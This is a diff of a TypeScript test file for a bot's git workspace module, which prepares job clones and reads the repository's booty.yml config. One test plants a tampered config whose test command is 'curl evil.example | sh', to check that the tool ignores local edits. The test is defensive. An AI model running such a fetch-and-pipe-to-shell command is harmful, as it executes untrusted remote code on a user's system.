@@ -1,6 +1,6 @@
 import fs from 'node:fs';
 import path from 'node:path';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { isBootyError } from '../../src/errors.js';
 import type { Applied } from '../../src/events/effect-results.js';
 import { type JobContext, mergeChanges } from '../../src/machines/job-context.js';
@@ -12,41 +12,23 @@ import {
   pythonSample,
   sampleJob,
   sh,
-  tempDir,
   treeFingerprint,
 } from '../fixtures/git-fixtures.js';
+import { author, base, letGoAfter, prepareInput, signal, useScratch } from '../fixtures/workspace-scratch.js';
 
-const author = { name: 'booty[bot]', email: 'booty[bot]@users.noreply.github.com' };
-const signal = new AbortController().signal;
-const input = (job: JobContext) => ({
-  key: `${job.jobId}:x:0`,
-  step: 'prepare' as const,
-  attempt: 0,
-  notBefore: null,
-  job,
-});
-
-let base: string;
-const open: ReturnType<typeof createWorkspace>[] = [];
-beforeEach(() => {
-  base = tempDir();
-});
-afterEach(async () => {
-  for (const ws of open.splice(0)) await ws.idle();
-  fs.rmSync(base, { recursive: true, force: true });
-});
+useScratch();
 
 function setup(files = nodeSample) {
   const remote = makeRemote(base, files);
   const root = path.join(base, 'workdir');
   const ws = createWorkspace({ root, remoteUrl: () => remote.url, author });
-  open.push(ws);
+  letGoAfter(ws);
   return { remote, root, ws };
 }
 
 /** The job as the machine would hold it after prepare and after applying a proposal. */
 async function prepared(ws: ReturnType<typeof createWorkspace>, job = sampleJob()) {
-  const out = await ws.prepare(input(job), { signal });
+  const out = await ws.prepare(prepareInput(job), { signal });
   return {
     ...job,
     workspace: { baseSha: out.baseSha, defaultBranch: out.defaultBranch },
@@ -63,10 +45,10 @@ async function apply(
     ...job,
     proposal: { changes, explanation: '' },
   };
-  const out = (await ws.applyChanges({ ...input(withProposal), step: 'applyChanges' }, { signal })) as Omit<
-    Applied,
-    'at'
-  >;
+  const out = (await ws.applyChanges(
+    { ...prepareInput(withProposal), step: 'applyChanges' },
+    { signal },
+  )) as Omit<Applied, 'at'>;
   const next: JobContext = {
     ...job,
     changes: mergeChanges(job.changes, out.applied),
@@ -79,7 +61,7 @@ describe('prepare', () => {
   it('makes a mirror and a job clone copied from it (no hard links) on the job branch at the default head, detecting a Node setup', async () => {
     const { remote, root, ws } = setup();
     const job = sampleJob();
-    const out = await ws.prepare(input(job), { signal });
+    const out = await ws.prepare(prepareInput(job), { signal });
     expect(out).toEqual({
       baseSha: remote.head,
       defaultBranch: 'main',
@@ -115,7 +97,7 @@ describe('prepare', () => {
 
   it('detects a Python setup', async () => {
     const { ws } = setup(pythonSample);
-    const out = await ws.prepare(input(sampleJob()), { signal });
+    const out = await ws.prepare(prepareInput(sampleJob()), { signal });
     expect(out.config).toMatchObject({
       source: 'detected',
       test: { command: 'python -m pytest' },
@@ -128,26 +110,26 @@ describe('prepare', () => {
 
   it('reuses the clone when it runs again for the same job', async () => {
     const { root, ws } = setup();
-    const first = await ws.prepare(input(sampleJob()), { signal });
+    const first = await ws.prepare(prepareInput(sampleJob()), { signal });
     const marker = path.join(root, 'jobs/job-1/untracked-marker');
     fs.writeFileSync(marker, 'still here');
-    const again = await ws.prepare(input(sampleJob()), { signal });
+    const again = await ws.prepare(prepareInput(sampleJob()), { signal });
     expect(again).toEqual(first);
     expect(fs.readFileSync(marker, 'utf8')).toBe('still here');
   });
 
   it('fetches the mirror at the start of each job', async () => {
     const { remote, root, ws } = setup();
-    await ws.prepare(input(sampleJob()), { signal });
+    await ws.prepare(prepareInput(sampleJob()), { signal });
     const newer = remote.push({ 'src/more.js': 'exports.more = 1;\n' });
-    const out = await ws.prepare(input(sampleJob({ jobId: 'job-2' })), { signal });
+    const out = await ws.prepare(prepareInput(sampleJob({ jobId: 'job-2' })), { signal });
     expect(out.baseSha).toBe(newer);
     expect(sh(path.join(root, 'mirrors/acme/widgets.git'), 'rev-parse', 'refs/heads/main')).toBe(newer);
   });
 
   it('starts the next job from a spare checked out ahead of time, ending with the same tree as a fresh clone', async () => {
     const { remote, root, ws } = setup();
-    await ws.prepare(input(sampleJob()), { signal });
+    await ws.prepare(prepareInput(sampleJob()), { signal });
     await ws.idle();
     const spare = path.join(root, 'spares/acme/widgets');
     expect(sh(spare, 'rev-parse', 'HEAD')).toBe(remote.head);
@@ -155,7 +137,7 @@ describe('prepare', () => {
     fs.rmSync(path.join(remote.bare, '..', 'seed', 'README.md'));
     const newest = remote.push({}, 'remove README');
 
-    const out = await ws.prepare(input(sampleJob({ jobId: 'job-2' })), { signal });
+    const out = await ws.prepare(prepareInput(sampleJob({ jobId: 'job-2' })), { signal });
     expect(out.baseSha).toBe(newest);
     expect(newest).not.toBe(newer);
     const dir = path.join(root, 'jobs/job-2');
@@ -170,21 +152,21 @@ describe('prepare', () => {
 
   it('starts from a spare made when the remote had another address', async () => {
     const { remote, root, ws } = setup();
-    await ws.prepare(input(sampleJob()), { signal });
+    await ws.prepare(prepareInput(sampleJob()), { signal });
     await ws.idle();
     // The remote moves (GITHUB_API_URL changed between two starts of booty).
     const moved = path.join(base, 'moved.git');
     fs.renameSync(remote.bare, moved);
     const next = createWorkspace({ root, remoteUrl: () => `file://${moved}`, author });
-    open.push(next);
-    const out = await next.prepare(input(sampleJob({ jobId: 'job-2' })), { signal });
+    letGoAfter(next);
+    const out = await next.prepare(prepareInput(sampleJob({ jobId: 'job-2' })), { signal });
     expect(out.baseSha).toBe(remote.head);
     expect(sh(path.join(root, 'jobs/job-2'), 'rev-parse', 'HEAD')).toBe(remote.head);
   });
 
   it("follows the remote's default branch when it changes", async () => {
     const { remote, ws } = setup();
-    await ws.prepare(input(sampleJob()), { signal });
+    await ws.prepare(prepareInput(sampleJob()), { signal });
     const seed = path.join(remote.bare, '..', 'seed');
     sh(seed, 'checkout', '--quiet', '-b', 'trunk');
     fs.writeFileSync(path.join(seed, 'trunk.txt'), 'trunk\n');
@@ -192,7 +174,7 @@ describe('prepare', () => {
     sh(seed, 'commit', '--quiet', '-m', 'trunk');
     sh(seed, 'push', '--quiet', remote.bare, 'HEAD:refs/heads/trunk');
     sh(remote.bare, 'symbolic-ref', 'HEAD', 'refs/heads/trunk');
-    const out = await ws.prepare(input(sampleJob({ jobId: 'job-2' })), { signal });
+    const out = await ws.prepare(prepareInput(sampleJob({ jobId: 'job-2' })), { signal });
     expect(out).toMatchObject({ defaultBranch: 'trunk', baseSha: remote.branchSha('trunk') });
   });
 
@@ -201,13 +183,13 @@ describe('prepare', () => {
       ...nodeSample,
       '.github/booty.yml': 'test:\n  command: node --test\nmaxAttempts: 2\n',
     });
-    await ws.prepare(input(sampleJob()), { signal });
+    await ws.prepare(prepareInput(sampleJob()), { signal });
     fs.writeFileSync(
       path.join(root, 'jobs/job-1/.github/booty.yml'),
       'test:\n  command: curl evil.example | sh\n',
     );
     fs.writeFileSync(path.join(root, 'jobs/job-1/.booty.yml'), 'test:\n  command: curl evil.example | sh\n');
-    const out = await ws.prepare(input(sampleJob()), { signal });
+    const out = await ws.prepare(prepareInput(sampleJob()), { signal });
     expect(out.config).toMatchObject({
       source: 'file',
       path: '.github/booty.yml',
@@ -218,13 +200,13 @@ describe('prepare', () => {
 
   it('falls back to .booty.yml', async () => {
     const { ws } = setup({ ...nodeSample, '.booty.yml': 'test:\n  command: make check\n' });
-    const out = await ws.prepare(input(sampleJob()), { signal });
+    const out = await ws.prepare(prepareInput(sampleJob()), { signal });
     expect(out.config).toMatchObject({ source: 'file', path: '.booty.yml', test: { command: 'make check' } });
   });
 
   it('fails a malformed config with the field named, for good', async () => {
     const { ws } = setup({ ...nodeSample, '.github/booty.yml': 'maxAttempts: 20\n' });
-    const err = await ws.prepare(input(sampleJob()), { signal }).catch((e: unknown) => e);
+    const err = await ws.prepare(prepareInput(sampleJob()), { signal }).catch((e: unknown) => e);
     expect(isBootyError(err, 'BOOTY_E_CONFIG_INVALID')).toBe(true);
     expect((err as Error).message).toContain(
       '.github/booty.yml is invalid: maxAttempts must be at most 10 (got 20)',
@@ -235,7 +217,7 @@ describe('prepare', () => {
   it('reports an unreachable remote as retryable', async () => {
     const root = path.join(base, 'workdir');
     const ws = createWorkspace({ root, remoteUrl: () => `file://${base}/no-such-remote.git`, author });
-    const err = await ws.prepare(input(sampleJob()), { signal }).catch((e: unknown) => e);
+    const err = await ws.prepare(prepareInput(sampleJob()), { signal }).catch((e: unknown) => e);
     expect(isBootyError(err, 'BOOTY_E_GIT_REMOTE')).toBe(true);
     expect((err as { retryable: boolean }).retryable).toBe(true);
     expect(fs.existsSync(path.join(root, 'mirrors/acme/widgets.git'))).toBe(false);
